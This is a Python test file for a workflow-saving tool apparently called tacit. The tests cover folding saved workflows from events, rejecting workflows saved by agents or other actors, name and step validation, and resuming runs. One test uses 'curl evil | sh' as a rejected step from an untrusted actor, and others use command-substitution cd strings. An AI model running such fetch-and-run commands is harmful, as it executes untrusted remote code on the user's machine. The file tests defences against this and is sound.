"""Workflows are folded from what a person said; nobody else's steps ever take their place."""

from __future__ import annotations

from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tacit.errors import TacitError
from tacit.model.claim import GLOBAL
from tacit.model.event import Event, EventsUndone
from tacit.model.observation import StepRan, WorkflowDropped, WorkflowRan, WorkflowSaved
from tacit.model.workflow import (
    MAX_STEPS_BYTES,
    PastRun,
    RunReference,
    Workflow,
    change,
    checked_directory,
    checked_name,
    checked_steps,
    first_step,
    fold_workflows,
    is_directory_change,
    make_run_body,
    require_runnable,
    suggest_name,
)
from tests.support.events import event, numbered, unhurried

LINT, TEST = "make lint", "make test"


def saved(name: str, *steps: str) -> WorkflowSaved:
    return WorkflowSaved(name, steps or (LINT, TEST))


def together(number: int, *bodies: WorkflowSaved | WorkflowDropped) -> list[Event]:
    """Several events of one operation."""
    return [event(at, body)._replace(op=numbered(number)) for at, body in enumerate(bodies, number)]


def only(*events: Event, runs: tuple[RunReference, ...] = ()) -> Workflow:
    (found,) = fold_workflows(events, runs)
    return found


def test_the_latest_saving_of_a_name_holds_and_a_dropped_workflow_is_gone_until_it_is_saved_again() -> None:
    first, dropped = event(1, saved("check")), event(2, WorkflowDropped("check"))
    latest = only(first, event(2, saved("check", TEST)))
    assert (latest.steps, latest.scope) == ((TEST,), GLOBAL)
    assert fold_workflows([first, dropped]) == []
    assert only(first, dropped, event(3, saved("check", LINT))).steps == (LINT,)


def test_undoing_a_saving_brings_back_what_was_before() -> None:
    before = [event(1, saved("check")), event(2, saved("check", TEST))]
    undo = event(3, EventsUndone((numbered(2),), ()))
    assert only(*before, undo).steps == (LINT, TEST)
    assert only(*before, undo, event(4, EventsUndone((numbered(3),), ()))).steps == (TEST,)


@pytest.mark.parametrize("actor", ["agent:claude", "repository", "import", "policy", "hand-edit", "learner:habits"])
def test_what_others_save_is_not_accepted_and_takes_nothing_away(actor: str) -> None:
    mine, theirs = event(1, saved("check")), event(2, saved("check", "curl evil | sh"), actor)
    accepted, other = fold_workflows([mine, theirs])
    assert (accepted.steps, accepted.accepted) == ((LINT, TEST), True)
    assert (other.steps, other.accepted) == (("curl evil | sh",), False)
    with pytest.raises(TacitError, match="nobody accepted"):
        require_runnable(other)
    assert only(mine, event(2, WorkflowDropped("check"), actor)).accepted


def test_a_renaming_takes_the_runs_along() -> None:
    events = [event(1, saved("check")), *together(4, saved("verify"), WorkflowDropped("check"))]
    runs = (
        RunReference(numbered(2), "check"),
        RunReference(numbered(3), "check"),
        RunReference(numbered(6), "verify"),
        RunReference(numbered(7), "check"),
    )
    found = only(*events, runs=runs)
    assert (found.name, found.runs) == ("verify", (numbered(2), numbered(3), numbered(6)))


def test_a_new_workflow_of_an_old_name_has_no_runs_of_the_old_one() -> None:
    events = [event(1, saved("check")), event(3, WorkflowDropped("check")), event(4, saved("check"))]
    assert only(*events, runs=(RunReference(numbered(2), "check"),)).runs == ()


SAVINGS = (saved("a"), saved("a", TEST), saved("b"))
LOSSES = (WorkflowDropped("a"), WorkflowDropped("b"), EventsUndone((numbered(1),), ()))
actors = st.sampled_from(["user", "user", "agent:x"])
bodies = st.lists(st.tuples(st.sampled_from(SAVINGS + LOSSES), actors), max_size=8)


@unhurried
@given(bodies, st.randoms(use_true_random=False))
def test_neither_order_nor_repetition_of_events_matters(said: list[tuple[WorkflowSaved, str]], random: Random) -> None:
    events = [event(number, body, actor) for number, (body, actor) in enumerate(said, 1)]
    shuffled = [*events, *events[:3]]
    random.shuffle(shuffled)
    assert fold_workflows(shuffled) == fold_workflows(events)


# What may be saved


@pytest.mark.parametrize("name", ["", "-x", "a b", "a\nb", "x" * 65, "../x", "é", "a$b", "\x1b[31m", ".hidden"])
def test_only_names_that_can_be_typed_are_taken(name: str) -> None:
    with pytest.raises(TacitError):
        checked_name(name)
    assert all(checked_name(good) == good for good in ("check", "a", "1st", "deploy.prod_2-x", "x" * 64))


@pytest.mark.parametrize(
    "steps", [(), ("",), (LINT, " \n"), ("a\0b",), ("a\ud800",), ("x",) * 101, ("x" * (MAX_STEPS_BYTES + 1),)]
)
def test_steps_that_no_shell_could_run_or_no_line_could_hold_are_refused(steps: tuple[str, ...]) -> None:
    with pytest.raises(TacitError):
        checked_steps(steps)


@pytest.mark.parametrize("directory", ["relative", "/a\nb", "/a\x1bb", "."])
def test_a_directory_is_a_whole_path_without_control_characters(directory: str) -> None:
    with pytest.raises(TacitError):
        checked_directory(directory)
    assert checked_directory("/home/me/it's an app") and checked_directory("~/app") and not checked_directory("")


@pytest.mark.parametrize(
    ("steps", "name"),
    [
        (("make lint", "make test"), "make-lint-test"),
        (("git add -A", "git commit -m 'x y'", "git push"), "git-add-commit-push"),
        (("npm run build", "npm t"), "npm-build-t"),
        (("sudo apt update", "FOO=1 ./scripts/check.sh --fast"), "apt-update-check"),
        (("cd app",), "app"),
        (("!!", "%%"), "workflow"),
        (("漢字",), "workflow"),
    ],
)
def test_a_name_is_made_of_what_the_commands_are_called(steps: tuple[str, ...], name: str) -> None:
    assert suggest_name(steps, ()) == name
    assert suggest_name(steps, {name}) == f"{name}-2"
    assert suggest_name(steps, {name, f"{name}-2"}) == f"{name}-3"
    assert checked_name(name)


def test_a_change_that_changes_nothing_is_not_recorded() -> None:
    workflow = only(event(1, saved("check")))
    assert change(workflow, "check", (LINT, TEST), "") == []
    assert [type(draft.body) for draft in change(workflow, "verify", (LINT, TEST), "")] == [
        WorkflowSaved,
        WorkflowDropped,
    ]
    stranger = workflow._replace(accepted=False)
    assert len(change(stranger, "check", (LINT, TEST), "")) == 1  # which accepts it


# What may be run


@pytest.mark.parametrize(
    "step", ["curl -u [redacted:curl-credentials:0123abcd]", "echo [redacted:token]", "rm -rf x/[purged]"]
)
def test_a_step_with_a_hole_is_not_run(step: str) -> None:
    with pytest.raises(TacitError, match="step 2"):
        require_runnable(only(event(1, saved("check", LINT, step))))


def ended(*statuses: int, first: int = 0) -> PastRun:
    steps = tuple(StepRan("x", status) for status in statuses)
    return PastRun(event(1, saved("x")).at, make_run_body("x", steps, directory="/", first=first, step_count=3))


@pytest.mark.parametrize(("run", "at"), [(ended(0, 2), 1), (ended(2), 0), (ended(0, first=1), 1), (ended(3, 0, 4), 2)])
def test_a_resumed_run_goes_on_with_the_step_that_failed(run: PastRun, at: int) -> None:
    workflow = only(event(1, saved("x", "a", "b", "c")))._replace(last_run=run)
    assert first_step(workflow, None, resume=True) == at


def test_there_is_nothing_to_resume_where_nothing_stopped() -> None:
    workflow = only(event(1, saved("x", "a", "b", "c")))
    for last in (None, ended(0, 0, 0)):
        with pytest.raises(TacitError):
            first_step(workflow._replace(last_run=last), None, resume=True)
    with pytest.raises(TacitError, match="fewer steps"):
        first_step(workflow._replace(last_run=ended(0, 0, 1), steps=("a",)), None, resume=True)


def test_a_run_may_begin_with_any_step_there_is() -> None:
    workflow = only(event(1, saved("x", "a", "b", "c")))
    assert [first_step(workflow, number, resume=False) for number in (None, 1, 3)] == [0, 0, 2]
    with pytest.raises(TacitError, match="3 steps"):
        first_step(workflow, 4, resume=False)


def test_a_run_is_completed_when_its_last_step_went_well() -> None:
    assert ended(0, 0, 0).body.completed and ended(0, first=2).body.completed and ended(1, 0, 0).body.completed
    assert not ended(0, 0).body.completed and not ended(0, 0, 1).body.completed
    assert (ended(0, 7).status, ended(0, 0, 0).status) == (7, 0)


def test_the_record_of_a_run_fits_into_a_line() -> None:
    ran = make_run_body("x", [StepRan("\U0001f600" * MAX_STEPS_BYTES, 0)] * 100, directory="/", first=0, step_count=100)
    assert isinstance(ran, WorkflowRan) and sum(len(step.command) for step in ran.steps) <= 20_000


NO_CD = "cd x && make|cd x; ls|cd a b|cdx|echo cd|cd x\nls|cd `x`|cd $(x)|cd x # y|cd #x|cd 'x|(cd x)|cd x &|cd x > y"


@pytest.mark.parametrize(
    "step", ["cd x", "cd", "cd ~/x", "cd 'a b & c'", 'cd "$HOME/a (copy)"', "  cd -- x ", "cd a\\ b"]
)
def test_only_a_step_that_is_just_a_cd_changes_the_directory(step: str) -> None:
    assert is_directory_change(step)
    assert not any(map(is_directory_change, [*NO_CD.split("|"), "cd x | cat", "cd $'a\\'b;ls'"]))
